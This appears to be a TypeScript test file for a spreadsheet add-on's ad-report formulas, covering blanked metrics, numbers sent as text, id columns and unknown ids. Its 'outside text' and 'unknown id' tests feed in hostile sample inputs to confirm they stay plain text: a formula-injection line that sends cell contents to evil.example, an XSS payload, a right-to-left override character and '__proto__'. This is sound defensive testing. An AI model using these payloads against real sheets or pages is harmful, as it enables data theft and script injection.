import type { FormulaName } from '../../formulas/shown-cells';
import { FormulaSheet } from './formula-cells';

/** Strange but readable answers, and the cells that show them. */

const sheet = new FormulaSheet();
const { service } = sheet.addOn;
const FOR_EVER = { times: 'until cleared' } as const;
const DAY = '2026-09-10';

afterEach(() => {
  sheet.expectKeyKept();
  sheet.forget();
});

describe('the warning that zeros mean unknown numbers', () => {
  it('makes the named metrics blank, and no others', () => {
    const [, before] = sheet.table('ADREPORT_FULL', '3.10', 'dau,revenue,arpu,newUsers', DAY);
    sheet.forget();
    service.arm('warning', { metrics: 'dau,arpu', ...FOR_EVER });
    const [, row] = sheet.table('ADREPORT_FULL', '3.10', 'dau,revenue,arpu,newUsers', DAY);
    expect(row).toEqual([before![0], '', before![2], '', before![4]]);
    expect(before!.every((cell) => cell !== '')).toBe(true);
  });
});

describe('the warning in other words', () => {
  it('makes the named metrics blank', () => {
    const message = '指标dau在所选维度下无法统计';
    service.arm('warning', { metrics: 'dau', message, ...FOR_EVER });
    expect(sheet.value('ADREPORT_VALUE', 'full', 'dau', '3.10', DAY)).toBe('');
    expect(sheet.table('ADREPORT_FULL', '3.10', 'dau,revenue', DAY)[1]!.slice(1)).toEqual([
      '',
      expect.any(Number),
    ]);
  });

  it('is shown instead of the numbers when it names no metric, and is stored for less than a minute', () => {
    const message = 'data of 2026-09-03 is incomplete';
    service.arm('warning', { metrics: 'dau', message, ...FOR_EVER });
    const sentence = 'The service says: “data of 2026-09-03 is incomplete”.';
    expect(sheet.sentence('ADREPORT_VALUE', 'full', 'dau', '3.10', DAY)).toContain(sentence);
    expect(sheet.sentence('ADREPORT_FULL', '3.10', 'dau', DAY)).toContain(sentence);
    service.clearFaults();
    sheet.addOn.clock.advance(60_000);
    expect(sheet.value('ADREPORT_VALUE', 'full', 'dau', '3.10', DAY)).toBeGreaterThan(0);
  });
});

describe('a number sent as text', () => {
  it('that is blank for one day makes the sum blank, never a partial sum', () => {
    service.arm('strange-numbers', { field: 'Revenue', text: '-', row: 1, ...FOR_EVER });
    const rows = sheet
      .table('ADREPORT_FULL', '', 'revenue,impressionApi', '2026-09-01', '2026-09-03')
      .slice(1);
    expect(rows.map(([, revenue]) => typeof revenue === 'number')).toEqual([true, false, true]);
    expect(rows[1]![1]).toBe('');
    expect(sheet.value('ADREPORT_VALUE', 'full', 'revenue', '', '2026-09-01', '2026-09-03')).toBe('');
    expect(sheet.value('ADREPORT_VALUE', 'full', 'ecpmApi', '', '2026-09-01', '2026-09-03')).toBe('');
    expect(sheet.value('ADREPORT_VALUE', 'full', 'impressionApi', '', '2026-09-01', '2026-09-03')).toBe(
      rows.reduce((sum, row) => sum + Number(row[2]), 0),
    );
  });
});

describe('outside text', () => {
  const byNetwork = () => sheet.table('ADREPORT_FULL', '3.10', 'revenue', DAY, '', 'network,networkName');

  it.each([
    '=IMAGE("https://evil.example/?"&A1)',
    '\t=1+1',
    '\n=1+1',
    '</script><img src=x onerror=alert(1)>',
    '\u202Eevil',
  ])('%j stays text', (text) => {
    const before = byNetwork();
    sheet.forget();
    service.arm('hostile-names', { text, ...FOR_EVER });
    const seen = byNetwork();
    expect(seen.slice(1).map((row) => row[1])).toEqual(
      before.slice(1).map(([, name]) => expect.stringContaining(String(name))),
    );
    for (const [, name] of seen.slice(1)) expect(String(name).trim().startsWith(text.trim())).toBe(true);
    expect(seen.map((row) => row[2])).toEqual(before.map((row) => row[2]));
  });

  it('loses what no cell can hold, and shows that something was removed', () => {
    service.arm('hostile-names', { text: 'a\uD800b\u0000c', ...FOR_EVER });
    for (const [, name] of byNetwork().slice(1)) expect(name).toMatch(/^a\uFFFDb\uFFFDc/);
  });

  it('in id columns stays the same, character by character, in every report', () => {
    const ids = ['00123456', '12E45678', '3.10', '9007199254740993'];
    const rows = (name: FormulaName, ...args: readonly unknown[]) => sheet.table(name, ...args).slice(1);
    expect(rows('ADREPORT_FULL', '', 'revenue', DAY, '', 'appId').map(([app]) => app)).toEqual(ids);
    expect(rows('ADREPORT_LTV', '', 1, DAY).map(([, app]) => app)).toEqual(ids);
    expect(rows('ADREPORT_RETENTION', '', 2, DAY).map(([, app]) => app)).toEqual(ids);
    expect(rows('ADREPORT_DEVICE', '9007199254740993', DAY, 'appId').map(([app]) => app)).toEqual([ids[3]]);
    const placements = rows('ADREPORT_FULL', '00123456', 'revenue', DAY, '', 'placementId').map(([id]) => id);
    expect(placements).toEqual(expect.arrayContaining(['0017', '1E10', '1/2', '1-1']));
    const versions = rows('ADREPORT_LTV', '3.10', 1, DAY, '', 'appVersion').map((row) => row[2]);
    expect(versions).toEqual(expect.arrayContaining(['3.10', '3.1', '2.0.0']));
    expect(sheet.addOn.service.requests.length).toBeGreaterThan(0);
  });

  it('of an unknown network or format is shown as it is', () => {
    const firstOf = (groups: string) =>
      sheet.table('ADREPORT_FULL', '', 'revenue', '2026-09-08', DAY, groups).map((row) => row.slice(0, 2));
    service.arm('unknown-network', FOR_EVER);
    expect(firstOf('network,networkName')).toContainEqual(['9999', 'Newcomer Ads']);
    sheet.forget();
    service.arm('unknown-format', FOR_EVER);
    expect(firstOf('adFormat,adFormatName')).toContainEqual(['99', 'Hologram']);
  });
});

describe('an unknown id', () => {
  it.each([
    ['__proto__', '__proto__'],
    ['markup', '</script>'],
    ['50,000 characters', 'x'.repeat(50_000)],
  ])('gives no rows or an error message: %s', (_words, app) => {
    expect(sheet.table('ADREPORT_FULL', app, 'revenue', DAY)).toEqual([['Date', 'Revenue']]);
    expect(sheet.value('ADREPORT_VALUE', 'full', 'revenue', '', DAY, '', 'networkName', app)).toBe('');
    expect(sheet.sentence('ADREPORT_DEVICE', app, DAY)).toMatch(/^The service does not permit this request/);
  });
});
